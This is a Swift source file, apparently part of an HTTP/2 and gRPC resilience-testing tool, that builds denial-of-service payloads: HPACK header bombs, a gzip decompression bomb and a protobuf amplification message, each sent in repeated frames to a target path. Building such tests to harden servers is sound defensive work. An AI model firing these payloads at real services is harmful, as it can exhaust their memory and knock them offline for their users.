import Bytes
import Compression

/// Little to send that becomes much.
extension Attack {
  static func bombs(_ door: Door) -> [Attack] {
    // A value of 4,000 bytes goes into the table once; after that every byte of a block stands for all of it.
    let value = String(repeating: "v", count: 3_900)
    let request = Frames.request(door, Target.holdPath)
    let first = request + [0x40, 1, UInt8(ascii: "x")] + Frames.length(value.utf8.count) + Array(value.utf8)
    let bomb = request + [UInt8](repeating: 0x80 | 62, count: 16_000)
    // Just inside what costs the connection at once.
    let small = request + [UInt8](repeating: 0x80 | 62, count: 20)
    func hpack(_ name: String, _ block: [UInt8]) -> Attack {
      Attack(name, door) {
        var stream: UInt32 = 1
        return { piece in
          var bytes = piece == 0 ? Frames.opening : []
          if piece == 0 {
            Frames.append(1, 5, stream, first, to: &bytes)
            stream += 2
          }
          while bytes.count < 32 << 10 {
            Frames.append(1, 5, stream, block, to: &bytes)
            stream &+= 2
          }
          return bytes
        }
      }
    }
    return [hpack("hpack bomb", bomb), hpack("hpack bomb, small steps", small)] + (door == .rpc ? messages : [])
  }

  /// Calls whose one message becomes large when it is unpacked or decoded.
  private static var messages: [Attack] {
    let zeros = [UInt8](repeating: 0, count: 64 << 20)
    var packed = ByteBuffer()
    zeros.withUnsafeBytes { try? Gzip.compress($0, level: 9, into: &packed) }
    let gzip = Frames.message(packed.array, compressed: true)
    // Two bytes each, of which every one becomes an object of its own.
    let empties = Frames.message(Frames.repeated([0x0A, 0], upTo: 1 << 20))
    func calls(_ name: String, _ head: [UInt8], _ message: [UInt8]) -> Attack {
      Attack(name, .rpc) {
        var stream: UInt32 = 1
        return { piece in
          var bytes = piece == 0 ? Frames.opening + Frames.frame(8, 0, 0, [0x3F, 0xFF, 0, 0]) : []
          Frames.append(1, 4, stream, head, to: &bytes)
          bytes += Frames.data(stream, message, ends: true)
          stream &+= 2
          return bytes
        }
      }
    }
    return [
      calls("gzip bomb", Frames.request(.rpc, Target.echoPath) + Frames.fields([("grpc-encoding", "gzip")]), gzip),
      calls("protobuf amplification", Frames.request(.rpc, Target.decodePath), empties),
    ]
  }
}
